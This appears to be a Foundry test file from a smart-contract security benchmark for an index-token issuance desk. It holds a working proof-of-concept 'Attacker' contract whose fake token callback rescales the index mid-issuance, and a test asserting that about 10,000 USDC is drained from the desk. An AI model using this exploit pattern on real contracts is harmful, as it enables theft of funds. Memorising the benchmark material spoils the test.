// SPDX-License-Identifier: GPL-3.0-or-later
pragma solidity 0.8.24;

// assay-canary-f2ceea46-6fd3-4cb1-b0f8-e1c5999f2481

import {Ownable} from "@openzeppelin/contracts@5.4.0/access/Ownable.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import {Pausable} from "@openzeppelin/contracts@5.4.0/utils/Pausable.sol";
import "./IssuanceDesk.sol";

interface Vm {
    function prank(address who) external;
    function startPrank(address who) external;
    function stopPrank() external;
    function warp(uint256 time) external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Coin is ERC20 {
    address private immutable minter = msg.sender;

    constructor(string memory symbol_) ERC20(symbol_, symbol_) {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

// calls somebody back whenever it is moved by an allowance
contract Hooked is ERC20 {
    address private immutable minter = msg.sender;
    address private callee;
    bytes private data;

    constructor() ERC20("Hooked", "HOOK") {
        _mint(msg.sender, 1_000e18);
    }

    function set(address callee_, bytes calldata data_) external {
        require(msg.sender == minter, "minter only");
        (callee, data) = (callee_, data_);
    }

    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        (bool ok, bytes memory why) = callee.call(data);
        if (!ok) {
            assembly {
                revert(add(why, 32), mload(why))
            }
        }
        return super.transferFrom(from, to, amount);
    }
}

// is a token too, and the manager of an index that contains it
contract Attacker {
    IssuanceDesk private desk;
    IERC20 private usdc;
    IndexToken private index;

    constructor(IssuanceDesk desk_, IERC20 usdc_) {
        desk = desk_;
        usdc = usdc_;
    }

    function run() external {
        IERC20[] memory parts = new IERC20[](2);
        uint256[] memory units = new uint256[](2);
        uint256[] memory most = new uint256[](2);
        (parts[0], parts[1]) = (IERC20(address(this)), usdc);
        (units[0], units[1]) = (1, 20e6);
        (most[0], most[1]) = (1, 20e6);
        index = desk.createIndex("Own", "OWN", parts, units);
        usdc.approve(address(desk), 20e6);
        desk.issue(index, 1e18, most, address(this));
        index.burn(1e18, address(this));
    }

    function transferFrom(address, address, uint256) external returns (bool) {
        if (msg.sender == address(desk)) index.rescale(501e18);
        return true;
    }

    function transfer(address, uint256) external pure returns (bool) {
        return true;
    }

    function approve(address, uint256) external pure returns (bool) {
        return true;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_785_000_000;
    uint256 private constant ALL = type(uint256).max;
    address private constant CLIENT = address(0xC11E);
    address private constant MANAGER = address(0xA4A6E);
    address private constant KEEPER = address(0x4EE9);

    Coin private usdc;
    Coin private weth;
    IndexFactory private factory;
    IssuanceDesk private desk;
    IndexToken private index;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        usdc = new Coin("USDC");
        weth = new Coin("WETH");
        factory = new IndexFactory();
        desk = new IssuanceDesk(usdc, factory, 0, address(this));
        desk.setKeeper(KEEPER);
        usdc.mint(address(this), 20_000e6);
        weth.mint(address(this), 50e18);
        usdc.approve(address(desk), ALL);
        weth.approve(address(desk), ALL);
        desk.addStock(usdc, 10_000e6);
        desk.addStock(weth, 20e18);
        vm.prank(KEEPER);
        desk.setPrice(weth, 3_000e6);
        (IERC20[] memory parts, uint256[] memory units) = lists();
        vm.prank(MANAGER);
        index = desk.createIndex("Half", "HALF", parts, units);
        usdc.mint(CLIENT, 20_000e6);
        weth.mint(CLIENT, 5e18);
        vm.startPrank(CLIENT);
        usdc.approve(address(desk), ALL);
        weth.approve(address(desk), ALL);
        index.approve(address(desk), ALL);
        vm.stopPrank();
        mallory = new Attacker(desk, usdc);
        usdc.mint(address(mallory), 20e6);
    }

    function lists() private view returns (IERC20[] memory parts, uint256[] memory units) {
        parts = new IERC20[](2);
        units = new uint256[](2);
        (parts[0], parts[1]) = (usdc, weth);
        (units[0], units[1]) = (300e6, 0.1e18);
    }

    function most(uint256 a, uint256 b) private pure returns (uint256[] memory m) {
        m = new uint256[](2);
        (m[0], m[1]) = (a, b);
    }

    function stocked(IERC20 part) private view returns (uint256 amount) {
        (amount,,) = desk.lines(part);
    }

    function test_Regular() public {
        require(desk.indexCount() == 1 && index.manager() == MANAGER && index.parts().length == 2, "made");
        vm.startPrank(CLIENT);
        desk.issue(index, 10e18, most(3_000e6, 1e18), CLIENT);
        require(index.balanceOf(CLIENT) == 10e18 && usdc.balanceOf(CLIENT) == 17_000e6, "for parts");
        require(weth.balanceOf(CLIENT) == 4e18 && stocked(weth) == 20e18 && stocked(usdc) == 10_000e6, "stock");
        vm.stopPrank();

        desk.setFee(100);
        require(desk.issueCost(index, 10e18) == 6_060e6, "cost");
        vm.startPrank(CLIENT);
        require(desk.issueForUsdc(index, 10e18, 6_060e6, CLIENT) == 6_060e6, "paid");
        require(index.balanceOf(CLIENT) == 20e18 && usdc.balanceOf(CLIENT) == 10_940e6, "for usdc");
        require(stocked(weth) == 19e18 && stocked(usdc) == 13_060e6, "out of stock");
        require(usdc.balanceOf(address(desk)) == 13_060e6 && index.held()[0] == 6_000e6, "books");
        require(desk.redeemForUsdc(index, 5e18, 2_970e6, CLIENT) == 2_970e6, "back");
        require(stocked(weth) == 19.5e18 && stocked(usdc) == 11_590e6, "into stock");
        require(desk.buyPart(weth, 1e18, 3_030e6) == 3_030e6 && weth.balanceOf(CLIENT) == 5e18, "a part");
        uint256[] memory got = index.burn(5e18, CLIENT);
        require(got[0] == 1_500e6 && got[1] == 0.5e18 && index.totalSupply() == 10e18, "burnt");
        vm.stopPrank();

        vm.startPrank(MANAGER);
        index.rescale(1.1e18);
        index.setManager(CLIENT);
        vm.stopPrank();
        require(index.required(10e18)[0] == 3_300e6 && index.manager() == CLIENT, "rescaled");
        vm.startPrank(CLIENT);
        usdc.approve(address(index), ALL);
        weth.approve(address(index), ALL);
        index.mint(CLIENT, 1e18);
        index.transfer(MANAGER, 1e18);
        require(index.balanceOf(MANAGER) == 1e18 && index.held()[0] == 3_330e6, "minted without the desk");
        vm.stopPrank();
        admin();
    }

    function admin() private {
        desk.setBlocked(index, true);
        require(desk.status(index) == IssuanceDesk.Status.Blocked, "blocked");
        desk.setBlocked(index, false);
        desk.setFee(200);
        desk.takeStock(weth, 18e18);
        desk.takeStock(usdc, 14_000e6);
        require(weth.balanceOf(address(this)) == 48e18 && usdc.balanceOf(address(this)) == 24_000e6, "taken");
        desk.pause();
        desk.unpause();
        desk.transferOwnership(CLIENT);
        vm.startPrank(CLIENT);
        desk.acceptOwnership();
        desk.renounceOwnership();
        vm.stopPrank();
        require(desk.owner() == address(0), "left");
    }

    function test_RefusesStrangers() public {
        bytes memory why = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, CLIENT);
        vm.startPrank(CLIENT);
        vm.expectRevert(why);
        desk.setFee(0);
        vm.expectRevert(why);
        desk.setBlocked(index, true);
        vm.expectRevert(why);
        desk.setKeeper(CLIENT);
        vm.expectRevert(why);
        desk.addStock(usdc, 1);
        vm.expectRevert(why);
        desk.takeStock(usdc, 1);
        vm.expectRevert(why);
        desk.pause();
        vm.expectRevert(why);
        desk.unpause();
        vm.expectRevert(why);
        desk.transferOwnership(CLIENT);
        vm.expectRevert(why);
        desk.renounceOwnership();
        vm.expectRevert(why);
        desk.acceptOwnership();
        vm.expectRevert("keeper only");
        desk.setPrice(weth, 1);
        vm.expectRevert(IndexToken.NotManager.selector);
        index.rescale(2e18);
        vm.expectRevert(IndexToken.NotManager.selector);
        index.setManager(CLIENT);
        vm.stopPrank();
    }

    function test_RefusesAmounts() public {
        vm.startPrank(CLIENT);
        vm.expectRevert(abi.encodeWithSelector(IssuanceDesk.AboveMax.selector, 1, 1e18));
        desk.issue(index, 10e18, most(3_000e6, 1e18 - 1), CLIENT);
        vm.expectRevert(abi.encodeWithSelector(IssuanceDesk.TooDear.selector, 600e6));
        desk.issueForUsdc(index, 1e18, 600e6 - 1, CLIENT);
        vm.expectRevert(abi.encodeWithSelector(IssuanceDesk.TooDear.selector, 3_000e6));
        desk.buyPart(weth, 1e18, 3_000e6 - 1);
        vm.expectRevert(abi.encodeWithSignature("Panic(uint256)", 0x11));
        desk.buyPart(weth, 20e18 + 1, ALL);
        desk.issue(index, 1e18, most(300e6, 0.1e18), CLIENT);
        vm.expectRevert(abi.encodeWithSelector(IssuanceDesk.TooCheap.selector, 600e6));
        desk.redeemForUsdc(index, 1e18, 600e6 + 1, CLIENT);
        vm.stopPrank();
        desk.takeStock(weth, 19.95e18);
        vm.prank(CLIENT);
        vm.expectRevert();
        desk.issueForUsdc(index, 1e18, ALL, CLIENT);
    }

    function test_RefusesForeignAndBlockedIndexes() public {
        (IERC20[] memory parts, uint256[] memory units) = lists();
        IndexToken foreign = new IndexToken("F", "F", address(this), parts, units);
        vm.expectRevert("not from here");
        desk.setBlocked(foreign, false);
        vm.expectRevert(abi.encodeWithSelector(IssuanceDesk.NotLive.selector, foreign));
        desk.issue(foreign, 1e18, most(ALL, ALL), CLIENT);
        desk.setBlocked(index, true);
        bytes memory why = abi.encodeWithSelector(IssuanceDesk.NotLive.selector, index);
        vm.startPrank(CLIENT);
        vm.expectRevert(why);
        desk.issue(index, 1e18, most(ALL, ALL), CLIENT);
        vm.expectRevert(why);
        desk.issueForUsdc(index, 1e18, ALL, CLIENT);
        vm.expectRevert(why);
        desk.redeemForUsdc(index, 0, 0, CLIENT);
        vm.stopPrank();
    }

    function test_RefusesWhilePaused() public {
        (IERC20[] memory parts, uint256[] memory units) = lists();
        vm.prank(CLIENT);
        desk.issue(index, 1e18, most(ALL, ALL), CLIENT);
        desk.pause();
        bytes4 why = Pausable.EnforcedPause.selector;
        vm.startPrank(CLIENT);
        vm.expectRevert(why);
        desk.createIndex("F", "F", parts, units);
        vm.expectRevert(why);
        desk.issue(index, 1e18, most(ALL, ALL), CLIENT);
        vm.expectRevert(why);
        desk.issueForUsdc(index, 1e18, ALL, CLIENT);
        vm.expectRevert(why);
        desk.redeemForUsdc(index, 1e18, 0, CLIENT);
        vm.expectRevert(why);
        desk.buyPart(weth, 1e18, ALL);
        vm.stopPrank();
    }

    function test_RefusesACallWithinACall() public {
        Hooked hooked = new Hooked();
        (IERC20[] memory parts, uint256[] memory units) = lists();
        parts[1] = hooked;
        IndexToken other = desk.createIndex("O", "O", parts, units);
        hooked.approve(address(desk), ALL);
        bytes4 why = ReentrancyGuard.ReentrancyGuardReentrantCall.selector;
        hooked.set(address(desk), abi.encodeCall(desk.issue, (index, 0, most(0, 0), CLIENT)));
        vm.expectRevert(why);
        desk.issue(other, 1e18, most(ALL, ALL), CLIENT);
        hooked.set(address(desk), abi.encodeCall(desk.issueForUsdc, (index, 0, 0, CLIENT)));
        vm.expectRevert(why);
        desk.issue(other, 1e18, most(ALL, ALL), CLIENT);
        hooked.set(address(desk), abi.encodeCall(desk.redeemForUsdc, (index, 0, 0, CLIENT)));
        vm.expectRevert(why);
        desk.issue(other, 1e18, most(ALL, ALL), CLIENT);
    }

    function test_RefusesFeesAndPrices() public {
        vm.expectRevert("fee too high");
        desk.setFee(201);
        vm.expectRevert("fee too high");
        new IssuanceDesk(usdc, factory, 201, address(this));
        vm.prank(KEEPER);
        vm.expectRevert("usdc is the money");
        desk.setPrice(usdc, 1e6);
        vm.expectRevert(abi.encodeWithSelector(Inventory.NotTraded.selector, index));
        desk.buyPart(index, 1, ALL);
        vm.warp(START + 1 days + 1);
        vm.prank(CLIENT);
        vm.expectRevert(abi.encodeWithSelector(Inventory.OldPrice.selector, weth));
        desk.buyPart(weth, 1e18, ALL);
    }

    function test_RefusesIndexes() public {
        (IERC20[] memory parts, uint256[] memory units) = lists();
        vm.expectRevert("bad lists");
        desk.createIndex("F", "F", new IERC20[](0), new uint256[](0));
        vm.expectRevert("bad lists");
        desk.createIndex("F", "F", new IERC20[](9), new uint256[](9));
        vm.expectRevert("bad lists");
        desk.createIndex("F", "F", parts, new uint256[](3));
        vm.expectRevert("no units");
        desk.createIndex("F", "F", parts, new uint256[](2));
        parts[1] = parts[0];
        vm.expectRevert("same part twice");
        desk.createIndex("F", "F", parts, units);
        vm.startPrank(MANAGER);
        vm.expectRevert("not higher");
        index.rescale(1e18);
        vm.expectRevert("nobody");
        index.setManager(address(0));
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        uint256 before = stockLeft();
        exploit();
        require(stockLeft() + 10_000e6 <= before, "nothing lost");
        require(usdc.balanceOf(address(mallory)) == 10_020e6, "gained");
    }

    // what the owner of the desk can still take out in usdc
    function stockLeft() public view returns (uint256) {
        return Math.min(usdc.balanceOf(address(desk)), stocked(usdc));
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
